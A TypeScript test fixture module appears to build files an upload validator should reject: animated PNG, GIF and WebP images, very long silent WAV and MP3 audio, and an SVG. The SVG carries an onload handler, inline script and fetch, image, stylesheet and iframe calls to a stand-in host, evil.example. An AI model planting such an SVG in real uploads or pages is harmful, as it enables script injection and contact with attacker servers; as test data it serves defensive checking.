import { closeSync, openSync, writeSync } from "node:fs";
import { crc32, deflateSync } from "node:zlib";
import { writeWavHeader } from "@/domain/writeWavHeader";

// Files as no page should take them, each a whole one of its kind.

const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
function chunk(type: string, body: Buffer): Buffer {
  const content = Buffer.concat([Buffer.from(type), body]);
  return Buffer.concat([u32(body.length), content, u32(crc32(content))]);
}

/** A PNG of black pixels, one bit each. `frames`: more than one are an animation. */
export function blackPng(width: number, height: number, frames = 1): Buffer {
  const pixels = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height));
  const frame = (place: number) => {
    const control = Buffer.concat([
      u32(place),
      u32(width),
      u32(height),
      Buffer.alloc(8),
      Buffer.from([0, 1, 0, 10, 0, 0]),
    ]);
    return chunk("fcTL", control);
  };
  const others = Array.from({ length: frames - 1 }, (_, at) => [
    frame(2 * at + 1),
    chunk("fdAT", Buffer.concat([u32(2 * at + 2), pixels])),
  ]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])])),
    ...(frames > 1 ? [chunk("acTL", Buffer.concat([u32(frames), u32(0)])), frame(0)] : []),
    chunk("IDAT", pixels),
    ...others.flat(),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A GIF of two frames of one pixel. */
export const movingGif = (() => {
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  const head = Buffer.from([...Buffer.from("GIF89a"), 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  return Buffer.concat([head, frame, frame, Buffer.from([0x3b])]);
})();

/** A WebP that says of itself that it moves. */
export const movingWebP = (() => {
  const extended = Buffer.from([...Buffer.from("VP8X"), 10, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + extended.length);
  return Buffer.concat([Buffer.from("RIFF"), size, Buffer.from("WEBP"), extended]);
})();

/** A picture that would run a program and ask another host, were it drawn as a page. */
export const programSvg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="document.title='taken'">
  <script>document.title = "taken"; fetch("https://evil.example/script")</script>
  <image href="https://evil.example/beacon.png" width="9" height="9"/>
  <style>@import url("https://evil.example/x.css");</style>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
</svg>`,
);

const seconds = 3 * 3600;

/** Writes three hours of silence as a WAV of 8-bit samples at 8 kHz: 86 MB. */
export function writeLongWav(path: string): void {
  const head = {
    samplingRate: 8000,
    channels: 1,
    frames: seconds * 8000,
    encoding: "integer",
    sampleBytes: 1,
  } as const;
  const file = openSync(path, "w");
  writeSync(file, writeWavHeader(head));
  const second = Buffer.alloc(8000, 128);
  for (let written = 0; written < seconds; written++) writeSync(file, second);
  closeSync(file);
}

/** Three hours of silence as an MP3 at 8 kbit/s and 8 kHz: 11 MB. Each of its frames lasts 72 ms. */
export function longMp3(): Buffer {
  const frame = Buffer.alloc(72);
  frame.set([0xff, 0xe3, 0x18, 0xc4]);
  return Buffer.concat(Array<Buffer>(seconds / 0.072).fill(frame));
}
